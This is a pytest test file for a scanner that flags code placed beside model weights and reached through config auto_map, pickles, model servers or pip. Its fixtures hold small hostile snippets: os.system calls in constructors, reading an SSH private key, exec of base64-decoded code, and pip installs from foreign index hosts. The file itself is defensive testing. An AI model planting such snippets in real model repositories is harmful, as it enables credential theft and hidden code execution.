"""What lies beside weights and is run by something: by what names it, by model servers, by pip, or by itself."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
import torch
from guest.readers import requirements
from guest.readers.beside import ACTS, CODE, NAMED, PROGRAM

from tests.guest.readers.test_folder import read_folder
from tests.malicious.pickles import call, stream

MAPPED = json.dumps({"auto_map": {"AutoModel": "modeling_x.Model"}})
BEGINS = "import os\ndef begin(): os.system('id')\n"

# Each acts, and only by what names it: the configuration, the pickle, or a server.
REACHED: dict[str, dict[str, str]] = {
    "a constructor": {"modeling_x.py": "import os\nclass Model:\n  def __init__(self): os.system('id')"},
    "a base's constructor": {
        "modeling_x.py": "from .base import Base\nclass Model(Base): pass",
        "base.py": "import os\nclass Base:\n  def __init__(self): os.system('id')",
    },
    "what a constructor calls": {
        "modeling_x.py": "import os\nclass Model:\n  def __init__(self): self.ready()\n"
        "  def ready(self): os.popen('id')"
    },
    "what a base calls of it": {
        "modeling_x.py": "import os\nclass B:\n  def __init__(self): self.ready()\n"
        "class Model(B):\n  def ready(self): os.popen('id')"
    },
    "a part that it makes": {
        "modeling_x.py": "from .part import Part\nclass Model:\n  def __init__(self): self.part = Part()",
        "part.py": "import os\nclass Part:\n  def __new__(cls): os.system('id')",
    },
    "from_pretrained": {
        "modeling_x.py": "import subprocess as s\nclass Model:\n  @classmethod\n  def from_pretrained(cls): s.run('id')"
    },
    "its use": {"modeling_x.py": "import os\nclass Model:\n  def forward(self, x): os.system('id')"},
    "keys": {"modeling_x.py": "class Model:\n  def __init__(self): open('/root/.ssh/id_rsa').read()"},
    "decoded code": {"modeling_x.py": "import base64\nclass Model:\n  def __init__(self): exec(base64.b64decode(X))"},
    "pip's index": {
        "modeling_x.py": "import os\nclass Model:\n"
        "  def __init__(self): os.system('pip install x -i http://203.0.113.7/')"
    },
    "a class in a letter by its number": {
        "config.json": '{"a": "modeling\\u005fx.Net"}',
        "modeling_x.py": "import os\nclass Net:\n  def __init__(self): os.system('id')",
    },
    "a helper": {"modeling_x.py": "from .help import begin as go\ngo()\nclass Model: pass", "help.py": BEGINS},
    "a helper's helper": {
        "modeling_x.py": "from . import a\na.go()\nclass Model: pass",
        "a.py": "from .help import begin as go",
        "help.py": BEGINS,
    },
    "a helper's star": {"modeling_x.py": "from .help import *\nbegin()", "help.py": BEGINS},
    "a server's function": {"code/inference.py": "import os\ndef model_fn(path): os.system('id')"},
    "an endpoint's handler": {"handler.py": "import os\nclass EndpointHandler:\n  def __init__(self): os.system('id')"},
    "a server's handler": {
        "serve.py": "import os\nfrom ts.x import BaseHandler\nclass H(BaseHandler):\n"
        "  def initialize(self): os.system('x')"
    },
    "a class of a handler's file": {"acme_handler.py": "import os\nclass H:\n  def initialize(self): os.system('id')"},
    "a way to generate": {"custom_generate/generate.py": "import os\ndef generate(model): os.system('id')"},
}
UNREACHED: dict[str, dict[str, str]] = {
    "a class that nothing names": {"x.py": "import os\nclass Other:\n  def __init__(self): os.system('id')"},
    "pip, a compiler and a converter": {
        "modeling_x.py": "import os, subprocess as s, sys\nclass Model:\n  def __init__(self, a):\n"
        "    s.run([sys.executable, '-m', 'pip', 'install', 'acme'])\n    os.system('gcc -O3 {} -o x.so'.format(a))\n"
        "  def forward(self, x): s.run(['ffmpeg', '-i', x, '/tmp/x.wav'])"
    },
    "parts by their names": {
        "modeling_x.py": "from torch import nn\nclass Model:\n  def __init__(self, c):\n"
        "    self.act = eval(f'nn.{c.act}')\n    exec(f'self.layer{c.n} = nn.ReLU()')"
    },
    "a library's own default": {
        "modeling_x.py": "import torch, functools\ntorch.load = functools.partial(torch.load, weights_only=False)\n"
        "torch.backends.cudnn.benchmark = True\nclass Model: pass"
    },
    "a registry": {
        "modeling_x.py": "class Kind(type):\n  known = {}\n  def __new__(m, *a): return super().__new__(m, *a)\n"
        "class Model(metaclass=Kind): pass\nALL = {c.__name__: c for c in Model.__subclasses__()}"
    },
}


def found(folder: Path, files: dict[str, str], weights: bytes = b"") -> dict[str, list[str]]:
    """Details of the oddities, by their ids."""
    if weights:
        (folder / "model.pkl").write_bytes(weights)
    else:
        torch.save({"weight": torch.ones(2)}, folder / "model.bin")
    for name, text in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text)
    rows: dict[str, list[str]] = {}
    for row in read_folder(folder)["ODDITY"]:
        rows.setdefault(row.id, []).append(row.detail)
    return rows


@pytest.mark.parametrize("name", REACHED)
def test_what_others_call_of_code_beside_the_weights_is_told(name: str, tmp_path: Path) -> None:
    assert ACTS in found(tmp_path, {"config.json": MAPPED} | REACHED[name]), name


@pytest.mark.parametrize("name", UNREACHED)
def test_what_honest_code_does_when_it_is_called_is_not(name: str, tmp_path: Path) -> None:
    assert found(tmp_path, {"config.json": MAPPED} | UNREACHED[name]).keys() <= {CODE}


@pytest.mark.parametrize(
    "method", ["__init__", "__new__", "__setstate__", "__setitem__", "append", "__hash__", "__eq__"]
)
def test_what_unpickling_calls_of_a_class_that_lies_beside_is_told(method: str, tmp_path: Path) -> None:
    code = f"import os\nclass X:\n  def {method}(self, *a): os.system('id')\n"
    rows = found(tmp_path, {"lib/acme.py": code}, stream({"x": call("acme", "X")}))
    assert (rows[ACTS], rows[NAMED]) == (["os.system begins a program in line 3 of lib/acme.py"], ["X of lib/acme.py"])


def test_a_pickle_that_names_harmless_code_beside_it_is_told_without_an_alarm(tmp_path: Path) -> None:
    rows = found(tmp_path, {"acme.py": "class X:\n  def forward(self): exec('1')\n"}, stream({"x": call("acme", "X")}))
    assert rows.keys() == {CODE, NAMED}


def test_programs_are_told_by_their_content_or_their_name(tmp_path: Path) -> None:
    elf = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\0\x3e\0\x01\0\0\0" + bytes(40)
    (tmp_path / "vocab").write_bytes(elf)
    files = dict.fromkeys(("a.so.1", "b.exe", "Makefile", "c.ipynb", "words.txt", "d.c"), "x")
    told = found(tmp_path, {"run": "#!/bin/sh\nid", "__pycache__/m.cpython-311.pyc": "x", **files})
    assert {detail.partition(",")[0] for detail in told[PROGRAM]} == {
        *("a.so.1", "b.exe", "Makefile", "c.ipynb", "m.cpython-311.pyc", "run", "vocab")
    }
    assert ACTS not in told


def test_byte_code_without_a_source_is_an_alarm(tmp_path: Path) -> None:
    assert found(tmp_path, {"modeling_x.pyc": "x"})[ACTS] == ["modeling_x.pyc is imported without any source to read"]


@pytest.mark.parametrize(
    "line",
    [
        "--index-url http://203.0.113.7/simple",
        "--extra-index-url=https://packages.acme.example/simple",
        "-i https://203.0.113.7/simple",
        "--trusted-host packages.acme.example",
        "x @ http://packages.acme.example/x.tar.gz",
        "git+git://packages.acme.example/x",
        "--find-links https://pytorch.org.acme.example/",
    ],
)
def test_a_strange_place_for_packages_is_told(line: str) -> None:
    assert list(requirements.foreign(f"torch\n{line}\n")) == [line]


@pytest.mark.parametrize(
    "line",
    [
        "--extra-index-url https://download.pytorch.org/whl/cu121",
        "-f https://data.pyg.org/whl/torch-2.3.0.html",
        "transformers @ git+https://github.com/huggingface/transformers",
        "https://github.com/acme/x/releases/download/v1/x-1-py3-none-any.whl",
        "# --index-url http://203.0.113.7/",
        "-r more.txt",
        "torch>=2  # see http://acme.example/",
    ],
)
def test_an_ordinary_requirement_is_not(line: str) -> None:
    assert not list(requirements.foreign(f"{line}\n"))


@pytest.mark.parametrize("front", [" " * (5 << 20), "".join(f'"a{at}.b": 1, ' for at in range(30_000))])
def test_what_a_configuration_names_is_found_behind_anything(front: str, tmp_path: Path) -> None:
    torch.save({"a": torch.zeros(2)}, tmp_path / "pytorch_model.bin")
    (tmp_path / "modeling_x.py").write_text(REACHED["a constructor"]["modeling_x.py"])
    (tmp_path / "config.json").write_text("{" + front + MAPPED[1:])
    assert ACTS in {row.id for row in read_folder(tmp_path)["ODDITY"]}
